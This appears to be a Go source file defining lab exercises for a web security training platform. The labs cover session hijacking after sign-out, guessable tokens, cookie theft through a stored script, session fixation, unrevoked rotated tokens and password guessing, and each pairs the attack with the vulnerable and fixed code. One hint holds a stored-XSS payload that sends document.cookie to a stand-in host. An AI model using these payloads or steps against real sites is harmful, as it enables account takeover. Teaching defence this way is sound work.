package lab

import (
	"net/http"

	"example.com/gatehouse/internal/twin"
)

// How a session begins, and what a browser may do with its token.
var beginnings = []Lab{
	{
		Lesson: "the-wristband", Target: "/account", Fault: twin.SignOutCookieOnly,
		Goal:  "Open the victim\u2019s account after the victim has signed out.",
		Story: "Vera works at a desk in an open office. You have a minute at her browser while she is signed in. Then she signs out and goes home.",
		Moves: []Move{signIn, copyCookie, signOut}, opened: victimsPage("sign-out"),
		Effect: "Your copy of the cookie opened Vera\u2019s account after she had signed out.",
		Hints: [3]string{
			"The browser forgets the cookie when somebody signs out. Who else has it?",
			"A copy works for as long as the server believes it. Take one before she signs out.",
			"Sign in, copy, sign out. Then send GET /account with the copied cookie.",
		},
		Solution: []string{"Let Vera sign in, and copy the cookie.", "Let her sign out.", "Send GET /account with your copy: 200."},
		Thinking: "Ask of every promise where it is kept. \u201cSigned out\u201d was kept in the browser, by deleting a cookie, and the browser was not the only one who had it. What nobody writes down on the server has not happened.",
		Wrong:    Code{"internal/twin/signin.go", `p.WriteSessionCookie(r.Context(), w, "", time.Time{})`},
		Right:    Code{"internal/store/session_end.go", "UPDATE sessions SET ended_at = $1, end_reason = $2, ended_by = $3"},
		onPortal: func(s *script) (bool, string) {
			vera := newBrowser(victim)
			s.demo(vera)
			copied := s.copied(vera)
			s.needs(s.opens(copied))
			s.post(vera, "/logout")
			return !s.opens(copied), "The copy opened the account before the sign-out, and nothing after it: the row of the session has an end."
		},
	},
	{
		Lesson: "tokens", Target: "/account", Fault: twin.CountedTokens,
		Goal:  "Open the victim\u2019s account with a token that nobody gave you.",
		Story: "Vera is signed in somewhere. You have never been near her. You have a browser of your own, and can look at your own cookie.",
		Moves: []Move{signIn}, opened: victimsPage(""),
		Effect: "A token that you calculated opened Vera\u2019s account.",
		Hints: [3]string{
			"Ask for the sign-in page twice, and look at what the answers set.",
			"The second number is the first plus one. Vera got hers a moment before you.",
			"Let Vera sign in, send GET /login, and count your number down by one or two: that is the cookie for GET /account.",
		},
		Solution: []string{"Let Vera sign in.", "Send GET /login without a cookie and read the number in Set-Cookie.", "Send GET /account with the number before it."},
		Thinking: "Look at several values of the same kind side by side before you look at one of them closely. A token has to be impossible to guess from all tokens that you can get, not only long.",
		Wrong:    Code{"internal/twin/aliases.go", "n.count++\nalias = fmt.Sprintf(\"%032d\", n.count)"},
		Right:    Code{"internal/bag/bag.go", "func (m *Manager) NewToken(ctx context.Context) string { return m.scs.Token(ctx) }"},
		onPortal: func(s *script) (bool, string) {
			vera, mine := newBrowser(victim), newBrowser(you)
			s.demo(vera)
			s.demo(mine)
			guess := newBrowser(you)
			token := []byte(mine.jar[s.Cookie].Value)
			token[len(token)-1] ^= 1 // the one beside it
			guess.jar[s.Cookie] = &http.Cookie{Name: s.Cookie, Value: string(token)}
			return !s.opens(guess), "Two tokens of the portal have nothing in common: each is 256 random bits. The one beside yours is nobody\u2019s."
		},
	},
	{
		Lesson: "cookie-attributes", Target: "/board", Fault: twin.ScriptsReadCookie, Extra: []twin.Fault{twin.NoHeaders}, Board: true,
		Goal:  "Open the victim\u2019s account with a cookie that a script read for you.",
		Story: "The twin has a board, which writes notes into its page as they are. You have an account and may post. Vera reads the board. Your own server, at https://prizes.example, writes down whatever reaches it.",
		Moves: []Move{signIn, readBoard}, opened: victimsPage(""),
		Effect: "A script on the board read Vera\u2019s cookie, and it opened her account for you.",
		Hints: [3]string{
			"What you post is markup for whoever reads the board. What can a script on that page see?",
			"document.cookie holds every cookie without HttpOnly. Sign in as yourself with POST /login, and post a note with your cookie.",
			"POST /board with the body note=<script>fetch('https://prizes.example/?'+document.cookie)</script> (a plus is written %2B). Then let Vera read the board.",
		},
		Solution: []string{
			"POST /login with your own address and password. The answer has your cookie.",
			"POST /board with it, and a note that is a script with document.cookie in it.",
			"Let Vera sign in and read the board. Your server heard her cookie: send GET /account with it.",
		},
		Thinking: "The board is one mistake, the cookie another. HttpOnly does not stop the script, which can still do in Vera\u2019s browser whatever Vera can. It stops the token from leaving the house, so that the attack is over when the tab is closed.",
		Wrong:    Code{"internal/twin/portal.go", "p.Cookie.HttpOnly, p.Cookie.Secure = !p.has(ScriptsReadCookie), !p.has(CookieOverHTTP)"},
		Right:    Code{"internal/bag/cookies.go", `cookie.Path, cookie.HttpOnly, cookie.SameSite = "/", true, cmp.Or(cookie.SameSite, http.SameSiteLaxMode)`},
		onPortal: func(s *script) (bool, string) {
			vera := newBrowser(victim)
			s.demo(vera)
			a := s.get(vera, "/account")
			s.needs(a.status == http.StatusOK)
			safe := vera.forScripts() == "" && a.header.Get("Content-Security-Policy") != ""
			return safe, "No cookie of the portal can be read by a script, and its headers let no script run that is not its own."
		},
	},
	{
		Lesson: "fixation", Target: "/account", Fault: twin.SignInKeepsToken,
		Goal:  "Open the victim\u2019s account with a token that you had before the victim signed in.",
		Story: "You can put a cookie into Vera\u2019s browser, but read nothing there: by a neighbouring host, or at a shared computer before she sits down.",
		Moves: []Move{plant, signIn}, opened: victimsPage(""),
		Effect: "The token that you planted opened Vera\u2019s account once she had signed in with it.",
		Hints: [3]string{
			"You cannot read her token. Could she use one that you know?",
			"The twin gives everybody a cookie who opens the sign-in page. Get one of your own.",
			"Send GET /login, plant what Set-Cookie says, let Vera sign in, and send GET /account with it.",
		},
		Solution: []string{"Send GET /login without a cookie.", "Plant the cookie of the answer, name=value.", "Let Vera sign in.", "Send GET /account with the same cookie."},
		Thinking: "When you cannot get at a secret, ask whether you can choose it. A token that was worth nothing became worth an account, and kept its value. Whenever what a token can do grows, it has to be another one.",
		Wrong:    Code{"internal/twin/signin.go", "if p.renewsAtSignIn(r.Context()) {"},
		Right:    Code{"internal/bag/bag.go", "if err := m.scs.RenewToken(ctx); err != nil {"},
		onPortal: func(s *script) (bool, string) {
			mine, vera := newBrowser(you), newBrowser(victim)
			s.post(mine, "/basket", "plan", "porch")
			vera.jar[s.Cookie] = mine.jar[s.Cookie]
			planted := s.copied(mine)
			s.demo(vera)
			s.needs(s.opens(vera))
			return !s.opens(planted), "Vera is signed in with a token that was made at that moment. The planted one opens nothing."
		},
	},
	{
		Lesson: "rotation", Target: "/account", Fault: twin.OldTokenLives,
		Goal:  "Open the victim\u2019s account with a token that was replaced.",
		Story: "You copied Vera\u2019s cookie. Before a payment she types her password again, and the twin gives her session another token, to shut out whoever has the old one.",
		Moves: []Move{signIn, copyCookie, confirm}, opened: victimsPage("confirm"),
		Effect: "Your copy opened Vera\u2019s account although her session has another token.",
		Hints: [3]string{
			"The session got another token. What became of the old one?",
			"Renewing has two halves: writing the new record, and removing the old. Try the old one.",
			"Sign in, copy, confirm. Then send GET /account with your copy.",
		},
		Solution: []string{"Let Vera sign in, and copy the cookie.", "Let her confirm her password.", "Send GET /account with your copy: 200."},
		Thinking: "Look for pairs, where one thing should end because another begins. Written as two steps, one of them can be missing, or fail. In one statement that swaps, there is no moment with both.",
		Wrong:    Code{"internal/twin/store.go", "if ctx.Value(keepOld{}) != nil {"},
		Right:    Code{"internal/store/session.go", "SET token_hash = $4, prev_token_hash = token_hash, rotated_at = $3, elevated_until = COALESCE($5, elevated_until),"},
		onPortal: func(s *script) (bool, string) {
			vera := newBrowser(victim)
			_, password := s.demo(vera)
			copied := s.copied(vera)
			s.needs(s.opens(copied))
			s.needs(s.post(vera, "/reauth", "password", password, "next", "/account").status == http.StatusSeeOther)
			return s.opens(vera) && !s.opens(copied), "The old token was dead at once. For two seconds the portal takes it for a request on its way and sends it again; after that, for a copy, and says so to Vera."
		},
	},
	{
		Lesson: "guessing", Target: "/login", Fault: twin.GuessesUnlimited, Guesses: 30,
		Goal:   "Sign in as the victim by trying a list of passwords.",
		Story:  "Vera chose a password of a list that everybody has. You have the list, and time.",
		opened: victimsPage(""),
		Effect: "One password of the list let you into Vera\u2019s account.",
		Hints: [3]string{
			"Somebody would have to count. Does anybody?",
			"One request for each password: the field below sends each line as one. The right one answers 303 and sets a cookie.",
			"POST /login with lines such as email=ADDRESS&password=summer1. Then send GET /account with the cookie of the answer that was 303.",
		},
		Solution: []string{"POST /login once for each password of the list.", "Find the answer with 303, and take its cookie.", "Send GET /account with it."},
		Thinking: "A check that may be repeated without end is a list with an answer in it. The counter belongs to the account and to the network, and grows slower than it takes to be a nuisance to its owner.",
		Wrong:    Code{"internal/twin/signin.go", "if p.guessed(email) && !p.has(GuessesUnlimited) {"},
		Right:    Code{"internal/guard/limits.go", `AccountHere       = Limit{inARow(5), "account here", ""}`},
		onPortal: func(s *script) (bool, string) {
			email, _ := s.demo(newBrowser(victim))
			limited := false
			s.limits = true
			for _, guess := range passwords(8) {
				a := s.post(newBrowser(you), "/login", "email", email, "password", guess+" and more of it")
				limited = limited || a.status == http.StatusTooManyRequests
			}
			return limited, "After five wrong passwords in a row the account waits for this network, and longer with each one."
		},
	},
}
